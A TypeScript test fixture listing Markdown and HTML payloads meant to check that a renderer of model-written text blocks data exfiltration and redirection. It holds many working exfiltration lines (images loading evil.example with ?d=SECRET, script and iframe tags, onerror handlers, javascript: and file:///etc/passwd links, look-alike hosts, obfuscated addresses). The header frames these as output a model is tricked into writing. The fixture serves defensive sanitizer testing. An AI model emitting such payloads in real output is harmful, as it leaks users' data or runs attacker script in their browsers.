/**
 * Ways in which text that a model was made to write could send data away or have a person led away, once it is rendered.
 * `evil.example` is where they lead; no renderer may load from there, link to it, or run anything.
 */
import type { Source } from '../../../../../../src/shared/model.ts';

export const sources: Source[] = [
  { n: 1, url: 'https://github.com/ada/engine/commit/a1b2c3d', title: 'Fix the crash' },
  { n: 2, url: 'https://github.com/ada/engine/issues/7?notification=on#issuecomment-1', title: 'It crashes' },
  { n: 3, url: 'https://github.com/ada/engine/pull/12', title: 'Add `|` (pipes)' },
  { n: 5, url: 'javascript:alert(1)', title: 'No address' },
  { n: 6, url: 'https://github.com@evil.example/', title: 'Another host than it seems' },
  { n: 7, url: 'https://github.com/ada/a_(b)|c%22"/$x$*y*', title: 'Odd address' },
];

const zeroWidth = '\u200b';
const evil = 'https://evil.example/p.png?d=SECRET';

/** Name and Markdown of each; each does harm in some renderer. */
export const attacks: Record<string, string> = {
  'an image': `![x](${evil})`,
  'an image without text': `![](${evil})`,
  'an image with a title': `![x](${evil} "t")`,
  'an image in angle brackets': `![x](<${evil}>)`,
  'an image by reference': `![x][i]\n\n[i]: ${evil}`,
  'an image by its own name': `![i]\n\n[i]: ${evil}`,
  'an image by an empty reference': `![i][]\n\n[i]:\n  ${evil}\n  "title"`,
  'an image without a scheme': '![x](//evil.example/p.png)',
  'an image with backslashes': '![x](https:\\\\evil.example\\p.png)',
  'an image as data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'an image in a link': `[![x](${evil})](https://evil.example)`,
  'an image in a link to a source': `[![x](${evil})](https://github.com/ada/engine/pull/12)`,
  'a link in an image': `![[x](https://evil.example)](${evil})`,
  'an image in an image': `![a ![b](${evil}) c](${evil})`,
  'an image in a table': `| a | b |\n|---|---|\n| ![x](${evil}) | \`x |\n| \`a | ![x](${evil})\` |`,
  'code that a table cuts': `| a |\n|---|\n| \`x | ![x](${evil})\` |\n| \`y \\| ![x](${evil})\` |`,
  'an image after a source': `![1](${evil}) ![2] !![3](${evil}) \\![1](${evil})`,
  'an image in emphasis': `**![x](${evil})** _![x](${evil})_ ~~![x](${evil})~~`,
  'an image in a heading': `# ![x](${evil})\n![x](${evil})\n===`,
  'an image in a quotation in a list': `> - 1. ![x](${evil})`,
  'an image over two lines': `![x\ny](${evil})\n![x](\n${evil})`,
  'an image with zero-width characters': `!${zeroWidth}[x]${zeroWidth}(${zeroWidth}https://evil${zeroWidth}.example/p.png)`,
  'an image with entities': '![x](https&#58;//evil&#46;example/p.png) &#33;[x](https://evil.example)',
  'an image with escapes':
    '![x](https\\://evil\\.example/p.png) !\\[x](https://evil.example/) !\\\\[x](https://evil.example/)',
  'an image after brackets': `[a]![x](${evil}) [a][b](${evil}) [[a]](${evil}) [a]\\(${evil}) [a\\\\]\\(${evil})`,
  'an image with nested parentheses': '![x](https://evil.example/(a(b)c)?d=1)',
  'an image beside unclosed brackets': `[[[[ ![x](${evil}) ]]]](${evil})`,
  'the image element': `<img src=${evil}> <IMG SRC="${evil}" onerror=alert(1)> <img\nsrc=${evil}> <img/src=${evil}>`,
  'other elements that load': `<svg><image href="${evil}"/></svg><picture><source srcset=${evil}></picture><video poster=${evil}><audio src=${evil}><iframe src=${evil}></iframe><object data=${evil}><embed src=${evil}><input type=image src=${evil}>`,
  'elements for the whole page': `<link rel=stylesheet href=${evil}><style>@import url(${evil});</style><base href=https://evil.example><meta http-equiv=refresh content="0;url=${evil}"><script src=${evil}></script>`,
  'an element with a style': `<p style="background:url(${evil})">x</p> <div style='background:url(//evil.example)'>`,
  'an element in a block': `<div>\n\n![x](${evil})\n\n</div>\n<details>\n<img src=${evil}>\n</details>`,
  'an element that is not closed': `<img src="${evil}`,
  'a comment that is not closed': `<!-- \n\n![x](${evil})`,
  'a declaration': `<!DOCTYPE x [<!ENTITY y SYSTEM "${evil}">]> <?x ${evil}?> <![CDATA[ <img src=${evil}> ]]>`,
  'a form': '<form action=https://evil.example><button formaction=https://evil.example>x</button></form>',
  'a link': '[x](https://evil.example/?d=SECRET)',
  'a link with a host like an allowed one':
    '[x](https://github.com.evil.example/) [x](https://github.com@evil.example/) [x](https://evil.example#github.com)',
  'a link to a source with data':
    '[x](https://github.com/ada/engine/pull/12?d=SECRET) [x](https://github.com/ada/engine/pull/12#SECRET) https://github.com/ada/engine/pull/12?d=SECRET',
  'a link beside the sources': '[x](https://github.com/evil/evil/issues/new?body=SECRET) https://github.com/evil/evil',
  'a link to a source that is none': '[4] [5] [6] [x](https://evil.example/x) [x](javascript:alert(1))',
  'a link out of a path': '[x](https://github.com/ada/engine/pull/12/../../../../evil?x)',
  'a link with a title': `[x](https://github.com/ada/engine/pull/12 "a](${evil})")`,
  'a link by reference': `[x][r] [r] [r][]\n\n[r]: https://evil.example\n[R 2]: <https://evil.example> 'x'\n> [q]: https://evil.example\n\n[q]`,
  'a link by a number': `[x][1] [1][x] [9]\n\n[9]: https://evil.example\n[x]: https://evil.example\n[1]: https://evil.example`,
  'a footnote': `[^1] [^x]\n\n[^1]: ${evil}\n[^x]: ![x](${evil})\n\n^[![x](${evil})]`,
  'an address alone': `${evil} http://evil.example HTTP://EVIL.EXAMPLE www.evil.example WWW.evil.example/x`,
  'an address in angle brackets': `<${evil}> <javascript:alert(1)> <mailto:a@evil.example> <a@evil.example> <ftp://evil.example> <x:y>`,
  'an address without a scheme':
    'evil.com evil.com/?d=SECRET //evil.com //evil.example/x go to evil.com. (evil.com) "evil.com" 看evil.com吧 例子.com пример.рф evil.xn--p1ai',
  'a mailbox that ends in a mark': 'a {b}@0.1 a!@0.1',
  'a mailbox':
    'mailto:}@® a[1, 9]@evil.example [1, 9]@.com a@evil.com mailto:a@evil.example?body=SECRET xmpp:a@evil.example a.b+c@evil.example',
  'another scheme': 'ftp://evil.example ftps://evil.example git+ssh://evil.example tel:+1 file:///etc/passwd',
  'an address in parts': `https:/**/evil.com ht**tp**s://evil.com e**vil.co**m evil.*com* evil\\.com https\\://evil.com https&#58;//evil.com www&period;evil.com www\\.evil.com www&#46\\;evil&#46\\;com`,
  'an address around what is removed':
    'ww[w.e.x](javascript:x) ww[w.e.x](https://evil.example) http:/[/e.x](y) [http:/](data:x)/e.x ww[w.evil.c](javascript:x)om ww![](data:x)w.evil.com ww![w.evil.c](data:,x)om ww[w.evil.c](//evil.example)om [](x)www[](x).evil.com http[:](x)//evil.com',
  'an address as the text of a link':
    '[https://evil.com](https://github.com/ada/engine/pull/12) [www.evil.com](https://evil.example) [a@evil.com](x)',
  'an address in emphasis':
    '**https://evil.example** _https://evil.example_ ~~www.evil.com~~ *a@evil.com* __evil.com__',
  'a script as a target':
    '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](&#106;avascript:alert(1)) [x](vbscript:x) [x](data:text/html,<script>alert(1)</script>) [x](\u0001javascript:alert(1))',
  'code that never ends': `\`x ![x](${evil})`,
  'code that ends in another paragraph': `\`x\n\n![x](${evil})\``,
  'code that ends in another line': `- \`x\n- ![x](${evil})\``,
  'code of unequal marks': `\`\`x\` ![x](${evil}) \`\`\`x\`\` ![x](${evil}) \`a\`\`b\` ![x](${evil}) \`\``,
  'code after a backslash': `\\\`![x](${evil})\` \\\\\`![x](${evil})\` \\evil.com \\\\evil.com \\www.evil.com`,
  'code beside code': `\`a\`evil.com\`b\` ![x](${evil}) \`a\`\\\`![x](${evil})\` evil.com\`![x](${evil})\``,
  'code that starts like a block': `\`<details open> <img src=${evil}>\`\n\n\`:::x ![x](${evil})\`\n\n\`<img src=${evil}>\``,
  'code that emphasis cuts': `*x \`\`a* ![x](${evil})\`c\`\`\n\n*x \\\` \`a* ![x](${evil})\`\n\n_x \`\`a_ ![x](${evil})\`c\`\`\n\n**x \\\`\`a** ![x](${evil})\` **`,
  'code that a renderer that guesses takes for text': `*x < y \`>a* ![p](${evil})\` z\n\n*x [foo](\`)a* ![p](${evil})\` z\n\n*x [a \`](b)c* ![p](${evil})\` z\n\n*x [foo\\](\`)a* ![p](${evil})\` z\n\n_x \\[a \`](b)c_ ![p](${evil})\` z\n\n**x \\< y \`>a** ![p](${evil})\` z`,
  'code that a line through it cuts': `~~x \`a~~ ![x](${evil})\`\n\nx~~y \`a~~ ![x](${evil})\`\n\n~x \`a~ ![x](${evil})\`\n\n~\`![x](${evil})\`~`,
  'code with formulas': `\`a $$x$$ ![x](${evil})\`\n\n\`a \\[x\\] ![x](${evil})\`\n\n\`a \\begin{equation}x\\end{equation} ![x](${evil})\``,
  'code after a formula': `$ \`$ ![x](${evil})\` and $a\`b$ ![x](${evil})\` \\(a \`\\) ![x](${evil})\` \\ce{a \`x} ![x](${evil})\` \\[ \`\\] ![x](${evil})\` [ \`\\] ![x](${evil})\` \\\\[ \`\\] ![x](${evil})\``,
  'a block after a formula': `$$\n\`\`\`\n$$\n![x](${evil})\n\`\`\`\n\n\\[\n\`\`\`\n\\]\n![x](${evil})\n\`\`\`\n\n\\begin{equation}\n\`\`\`\n\\end{equation}\n![x](${evil})\n\`\`\``,
  'a formula that loads': `$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{${evil}}$$ \\(\\url{${evil}}\\)`,
  'a block in a block of colons': `:::writing\n\`\`\`\n:::\n![x](${evil})\n\`\`\``,
  'a block of colons in a block': `\`\`\`\n:::writing\n![x](${evil})\n:::\n\`\`\``,
  'a block that only seems to start': `\`\`\`a\`b\n![x](${evil})\n\`\`\`\n![x](${evil})`,
  'a block that ends early': `\`\`\`\n\`\`\`~\n![x](${evil})\n\`\`\`\n\n~~~\n~~~\`\n![x](${evil})\n~~~\n\n\`\`\`\n\`\`\`\`\n![x](${evil})\n\`\`\``,
  'a block that ends late': `\`\`\`\`\n\`\`\`\n![x](${evil})\n\`\`\`\`\n![x](${evil})`,
  'a block in a list': `- x\n  \`\`\`\n![x](${evil})\n  \`\`\`\n\n- \`\`\`\n![x](${evil})\n\`\`\`\n![x](${evil})\n\n1. - > ~~~\n![x](${evil})\n~~~`,
  'a block in a quotation': `> \`\`\`\n![x](${evil})\n> \`\`\`\n> ![x](${evil})\n\n> \`\`\`\n> a\n\n![x](${evil})\n\`\`\`\n![x](${evil})`,
  'a block further in': `    \`\`\`\n![x](${evil})\n    \`\`\`\n\n\`\`\`\n    \`\`\`\n![x](${evil})\n\`\`\`\n\n\t~~~\n![x](${evil})\n\t~~~`,
  'a block with marks after blanks': `\`\`\`\n\`\`\`${' '.repeat(300)}\n![x](${evil})\n\`\`\``,
  'a block that is drawn':
    '```mermaid\ngraph TD\nA@{ img: "https://evil.example/p.png" }\n```\n\n~~~ html\n<img src=https://evil.example>\n~~~\n\n``` SVG\n<svg/>\n```\n\n```vega-lite {x}\n{}\n```',
  attributes: `x{style="background:url(${evil})"} {{VIDEO_FILE_ID_a}} {: onclick=alert(1)}`,
  'a label without end': `[${'a '.repeat(600)}](${evil}) ![${'a '.repeat(600)}](${evil})`,
  'a target without end': `![x](https://evil.example/${'a'.repeat(2_500)}) [x](${' '.repeat(2_500)}https://evil.example)`,
  'code without end': `\`${'a '.repeat(600)}\` ![x](${evil}) \`${' '.repeat(998)}\`![x](${evil})\``,
};

/** Harmless as they are, and no longer after a careless change, such as a character that is taken out. */
export const traps: Record<string, string> = {
  'an image whose mark is the last before a source': `Look![1]\n\nLook!https://github.com/ada/engine/pull/12`,
  'an address with invisible characters': `https:${zeroWidth}//evil.com ev\u00adil.com www\u2060.evil.com evil\u{e0041}.com evil\u200d.com \u202emoc.live evil\ufe0f.com evil\u0000.com evil\r.com`,
  'a block that never ends': `\`\`\`\n![x](${evil})`,
  'a block of tildes in text': `a ~~~\n~~~~~ ~~~ x\n\\~~~\n![x](${evil})\n>~~~\n![x](${evil})`,
  'a preamble': `---\n\`\`\`\n---\n![x](${evil})\n\`\`\``,
  'a word without end': `${'a'.repeat(995)}.evil.com ${'='.repeat(994)}http://e.x www.${'a'.repeat(995)}`,
};
